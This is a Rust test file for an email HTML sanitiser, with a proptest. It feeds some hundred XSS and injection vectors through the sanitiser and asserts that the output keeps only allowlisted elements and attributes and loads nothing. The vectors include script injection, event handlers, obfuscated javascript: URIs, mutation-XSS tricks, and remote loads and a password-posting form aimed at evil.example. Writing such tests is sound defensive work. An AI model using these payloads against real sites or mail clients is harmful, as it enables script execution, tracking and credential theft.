//! Attacks by HTML mail. Whatever comes in, what goes out holds only known elements and attributes
//! and loads nothing.
#![expect(clippy::unwrap_used, clippy::panic, reason = "test code: a panic is the report")]

use channels::email::sanitise::{HTML_BYTES_MAX, mail_html};
use proptest::prelude::*;

/// Attacks of many kinds: scripts, handlers, schemes, encodings, foreign content, forms, styles,
/// markup that changes when it is parsed twice, remote loading.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\" / >",
    "<img/src='x'/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<img src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"DATA:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=x srcset=\"http://evil.example/a 1x\">",
    "<img src=http://evil.example/track.gif width=1 height=1>",
    "<img src=//evil.example/track.gif>",
    "<img src=/api/v1/account>",
    "<img src=file:///etc/passwd>",
    "<img lowsrc=http://evil.example dynsrc=http://evil.example>",
    "<input type=image src=http://evil.example/x.gif>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=\"https://ok.example\" onclick=alert(1)>x</a>",
    "<a href=\"https://ok.example\" target=_self rel=opener>x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=blob:https://x/1>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<div style=\"background:url(http://evil.example/x.gif)\">x</div>",
    "<div style=\"background-color:red;background-image:url('http://evil.example')\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:\\65xpression(alert(1))\">x</div>",
    "<div style=\"color:ex/**/pression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(http://evil.example/x.xml#x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</div>",
    "<div style=\"color:red;} body{display:none\">x</div>",
    "<table background=http://evil.example/x.gif><tr><td background=//evil.example>x</td></tr></table>",
    "<body background=http://evil.example onload=alert(1)>x",
    "<form action=http://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video src=http://evil.example poster=javascript:alert(1) onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<picture><source srcset=http://evil.example/x><img src=http://evil.example/y></picture>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><script>alert(1)</script></select>",
    "<b onmouseover=alert(1)>x</b>",
    "<p id=location name=body class=admin>x</p>",
    "<img src=x data-remote-src=http://evil.example data-cid=x>",
    "<div data-remote-src=x data-x=y>x</div>",
    "<img alt='\" src=\"http://evil.example/x' src=cid:a>",
    "<img alt=' src=\"x\"' title=' data-cid=\"y\"' src=cid:a>",
    "<a title='<img src=\"http://evil.example\">' href=https://ok.example>x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x onload=alert(1)>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<area href=javascript:alert(1)><map name=x><area href=http://evil.example></map>",
    "<img usemap=#x src=cid:a>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=http://evil.example>y</blockquote>",
    "<font color=red onclick=alert(1) style='color:url(//evil.example)'>x</font>",
    "<dialog open>x</dialog><slot name=x></slot><custom-element></custom-element>",
];

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
const ATTRIBUTES: &[&str] = &[
    "align",
    "alt",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "char",
    "charoff",
    "color",
    "colspan",
    "data-cid",
    "data-remote-src",
    "datetime",
    "dir",
    "face",
    "headers",
    "height",
    "href",
    "hreflang",
    "lang",
    "rel",
    "rowspan",
    "scope",
    "size",
    "span",
    "src",
    "start",
    "style",
    "summary",
    "target",
    "title",
    "valign",
    "width",
];

/// An element of sanitised HTML with its attributes.
type Element = (String, Vec<(String, String)>);

/// Reads sanitised HTML strictly; anything irregular is a failure.
fn elements(html: &str) -> Vec<Element> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = rest.get(at + 1..).unwrap();
        if let Some(closing) = rest.strip_prefix('/') {
            let (name, after) = closing.split_once('>').unwrap();
            assert!(ELEMENTS.contains(&name), "</{name}> in {html}");
            rest = after;
            continue;
        }
        let end = rest.find(|c: char| !c.is_ascii_alphanumeric()).unwrap();
        let name = rest.get(..end).unwrap().to_owned();
        rest = rest.get(end..).unwrap();
        let mut attributes = Vec::new();
        while let Some(tail) = rest.strip_prefix(' ') {
            let (key, value) = tail.split_once("=\"").unwrap();
            let (value, after) = value.split_once('"').unwrap();
            attributes.push((key.to_owned(), value.to_owned()));
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("irregular tag in {html}"));
        found.push((name, attributes));
    }
    found
}

/// Panics unless the HTML is harmless.
fn check(html: &str) {
    for (name, attributes) in elements(html) {
        assert!(ELEMENTS.contains(&name.as_str()), "<{name}> in {html}");
        for (key, value) in attributes {
            assert!(ATTRIBUTES.contains(&key.as_str()), "{key} in {html}");
            let lower = value.to_ascii_lowercase();
            match key.as_str() {
                "href" => assert!(
                    ["http:", "https:", "mailto:", "tel:"].iter().any(|s| lower.starts_with(s)),
                    "{value}"
                ),
                "src" => assert!(
                    lower.starts_with("data:image/") && !lower.starts_with("data:image/svg"),
                    "{value}"
                ),
                "target" => assert_eq!(value, "_blank"),
                "rel" => assert_eq!(value, "noopener noreferrer"),
                "style" => {
                    for bad in ["url", "expression", "position", "binding", "import", "@", "\\"] {
                        assert!(!lower.contains(bad), "{bad} in {html}");
                    }
                }
                _ => {}
            }
        }
    }
}

#[test]
fn every_attack_comes_out_harmless() {
    assert!(VECTORS.len() >= 60);
    for vector in VECTORS {
        let clean = mail_html(vector).unwrap();
        check(&clean);
        // What is clean stays as it is when it is parsed again: no mutation can bring it back.
        check(&mail_html(&clean).unwrap());
        // The same inside ordinary mail.
        check(
            &mail_html(&format!("<p>前</p><table><tr><td>{vector}</td></tr></table><p>後</p>"))
                .unwrap(),
        );
    }
}

#[test]
fn ordinary_mail_keeps_its_looks() {
    let clean = mail_html(
        "<html><head><title>x</title><style>p{color:red}</style></head><body>\
         <p style=\"color: red; font-size:14px\">お世話に<b>なります</b></p>\
         <table border=\"1\" cellpadding=\"4\"><tr><td align=\"right\" bgcolor=\"#eee\">1</td></tr></table>\
         <a href=\"https://example.jp/?a=1&amp;b=2\">リンク</a></body></html>",
    )
    .unwrap();
    check(&clean);
    for kept in [
        "color:red",
        "<b>なります</b>",
        "align=\"right\"",
        "bgcolor=\"#eee\"",
        "https://example.jp/?a=1&amp;b=2",
    ] {
        assert!(clean.contains(kept), "{kept} is lost: {clean}");
    }
    assert!(!clean.contains("p{"), "{clean}");
}

#[test]
fn pictures_are_deferred() {
    let clean = mail_html(
        "<img src=\"https://x.example/a.png\" alt=\"a\"><img src=\"cid:logo@mail\">\
         <img src=\"data:image/png;base64,AAAA\">",
    )
    .unwrap();
    check(&clean);
    assert!(clean.contains("data-remote-src=\"https://x.example/a.png\""), "{clean}");
    assert!(clean.contains("data-cid=\"logo@mail\""), "{clean}");
    assert!(clean.contains(" src=\"data:image/png;base64,AAAA\""), "{clean}");
}

#[test]
fn what_would_explode_is_not_processed() {
    assert_eq!(mail_html(&"x".repeat(HTML_BYTES_MAX + 1)), None);
    let tangled: String = (0..2_000).map(|n| format!("<b title={n}><p>")).collect();
    assert_eq!(mail_html(&tangled), None);
    assert_eq!(mail_html(&"<div>".repeat(300_000)), None);
    assert!(mail_html(&"<div>".repeat(900)).is_some(), "sloppy, but no more");
    let sloppy = "<p>あ<br><li>い<tr><td>う<img src=cid:a>".repeat(10_000);
    assert!(mail_html(&sloppy).is_some());
    // Many, but closed.
    let many: String = (0..5_000).map(|n| format!("<b title=\"{n}\">x</b>")).collect();
    assert!(mail_html(&many).is_some());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn any_mixture_comes_out_harmless(parts in proptest::collection::vec(
        prop_oneof![
            proptest::sample::select(VECTORS).prop_map(str::to_owned),
            "[<>/a-z\"'= !&;#-]{0,12}",
            ".{0,8}",
        ], 0..6)) {
        if let Some(clean) = mail_html(&parts.concat()) {
            check(&clean);
        }
    }
}
